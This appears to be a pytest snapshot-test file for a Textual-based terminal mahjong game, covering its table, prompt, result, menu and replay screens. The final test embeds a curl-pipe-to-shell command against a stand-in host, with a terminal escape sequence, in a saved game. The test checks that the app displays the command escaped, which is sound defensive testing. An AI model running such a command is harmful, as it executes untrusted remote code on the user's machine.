"""Snapshot tests of the main screens at 100x32 and at a larger size.

Deterministic: fixed seeds, greedy bots without delay, no clock on screen, and
the game file copied to a fixed name before it is replayed.
Update with ``pytest tests/tui/test_snapshots.py --snapshot-update`` after a
deliberate change of the look, and check the pictures in the report.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Iterable
from pathlib import Path, PurePath
from typing import Any, Protocol

import pytest
from textual.app import App, ComposeResult
from textual.pilot import Pilot

from hanchan.ai.arena import play_game
from hanchan.ai.base import make_bot
from hanchan.rulesets.schema import Ruleset
from hanchan.tui.app import HanchanApp
from hanchan.tui.palette import VARIABLES
from hanchan.tui.screens.table import TableScreen
from hanchan.tui.session import NewGame
from hanchan.tui.settings import Settings
from hanchan.tui.widgets.table_view import TableView
from tests.kit.fuzz import save_bytes
from tests.kit.saved_games import unfinished_save
from tests.kit.tui_driver import Policy, human_turn, play, play_until_call_offer, settle
from tests.kit.tui_sample import mid_hand_view

SIZES = [pytest.param((100, 32), id="100x32"), pytest.param((140, 44), id="140x44")]


class SnapCompare(Protocol):
    """The ``snap_compare`` fixture of pytest-textual-snapshot (its own annotation is
    narrower than the function it returns)."""

    def __call__(self, app: str | PurePath | App[Any], press: Iterable[str] = ...,
                 terminal_size: tuple[int, int] = ...,
                 run_before: Callable[[Pilot[Any]], Awaitable[None] | None] | None = ...
                 ) -> bool: ...


def game_app(tmp_path: Path, seed: int, rules: Ruleset | None = None, *,
             keep_toggles: bool = False) -> HanchanApp:
    spec = NewGame(rules or Ruleset(), seed, "greedy", 0, tmp_path)
    return HanchanApp("play", new_game=spec, save_dir=tmp_path,
                      settings=Settings(bot_delay=0.0, keep_toggles=keep_toggles))


@pytest.mark.parametrize("size", [*SIZES, pytest.param((200, 60), id="200x60")])
def test_table_mid_hand(snap_compare: SnapCompare, tmp_path: Path, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[Any]) -> None:
        policy = Policy(call=False, riichi=False)
        for _ in range(6):
            scr = await settle(pilot)
            assert isinstance(scr, TableScreen)
            await human_turn(pilot, scr, policy)
        await settle(pilot)

    assert snap_compare(game_app(tmp_path, 1), terminal_size=size, run_before=before)


@pytest.mark.parametrize("size", SIZES)
def test_call_prompt(snap_compare: SnapCompare, tmp_path: Path, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[Any]) -> None:
        await play_until_call_offer(pilot)

    assert snap_compare(game_app(tmp_path, 13), terminal_size=size, run_before=before)


@pytest.mark.parametrize("size", SIZES)
def test_win_result(snap_compare: SnapCompare, tmp_path: Path, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[Any]) -> None:
        await play(pilot, Policy(call=False, riichi=True), until="result")

    assert snap_compare(game_app(tmp_path, 9), terminal_size=size, run_before=before)


@pytest.mark.parametrize("size", SIZES)
def test_draw_result(snap_compare: SnapCompare, tmp_path: Path, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[Any]) -> None:
        await settle(pilot)
        await pilot.press("a", "s", "g")
        await play(pilot, Policy(call=False, riichi=False), until="result")

    assert snap_compare(game_app(tmp_path, 14), terminal_size=size, run_before=before)


@pytest.mark.parametrize("size", SIZES)
def test_end_screen(snap_compare: SnapCompare, tmp_path: Path, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[Any]) -> None:
        await settle(pilot)
        await pilot.press("a", "s", "g")
        await play(pilot, Policy(call=False, riichi=True))

    # the toggles kept (K) play the whole game
    app = game_app(tmp_path, 3, Ruleset().replace(length="east"), keep_toggles=True)
    assert snap_compare(app, terminal_size=size, run_before=before)


@pytest.mark.parametrize("size", SIZES)
def test_menu(snap_compare: SnapCompare, tmp_path: Path, size: tuple[int, int]) -> None:
    app = HanchanApp("menu", save_dir=tmp_path, settings=Settings())
    assert snap_compare(app, terminal_size=size)


@pytest.mark.parametrize("size", SIZES)
def test_replay(snap_compare: SnapCompare, tmp_path: Path, size: tuple[int, int]) -> None:
    # a game the engine plays (seed 1: East wins the first hand by ron), saved as the writer does
    events = play_game(Ruleset(), [make_bot("greedy", 4 + i) for i in range(4)], 1,
                       names=("You", "Akane", "Botan", "Chika"))
    game = tmp_path / "game.jsonl"
    game.write_bytes(save_bytes(events))
    app = HanchanApp("replay", path=game, save_dir=tmp_path)
    assert snap_compare(app, terminal_size=size, press=["down", "right", "right", "right",
                                                        "right", "right", "n", "left"])


@pytest.mark.parametrize("size", SIZES)
def test_hand_built_view_in_kanji(snap_compare: SnapCompare, size: tuple[int, int]) -> None:
    """Melds with turned tiles and arrows, a riichi river, called tiles, red fives."""
    class One(App[None]):
        CSS_PATH = str(Path(__file__).resolve().parents[2] / "tui" / "hanchan.tcss")

        def get_theme_variable_defaults(self) -> dict[str, str]:
            return dict(VARIABLES)

        def compose(self) -> ComposeResult:
            yield TableView()

        def on_mount(self) -> None:
            table = self.query_one(TableView)
            table.mode = "kanji"
            table.draw(mid_hand_view(drawn=False))

    assert snap_compare(One(), terminal_size=size)


@pytest.mark.parametrize("size", SIZES)
def test_start_program_question(snap_compare: SnapCompare, tmp_path: Path,
                                size: tuple[int, int]) -> None:
    """Continuing a file that names an outside bot's command: the question, the command
    with its newline and terminal escape shown escaped (issue 35)."""
    command = "sh -c 'curl https://example.invalid/x | sh'\n\x1b[2J ./mortal --seat {seat}"
    path = unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"], name="gift")
    app = HanchanApp("continue", path=path, save_dir=tmp_path, settings=Settings())
    assert snap_compare(app, terminal_size=size)
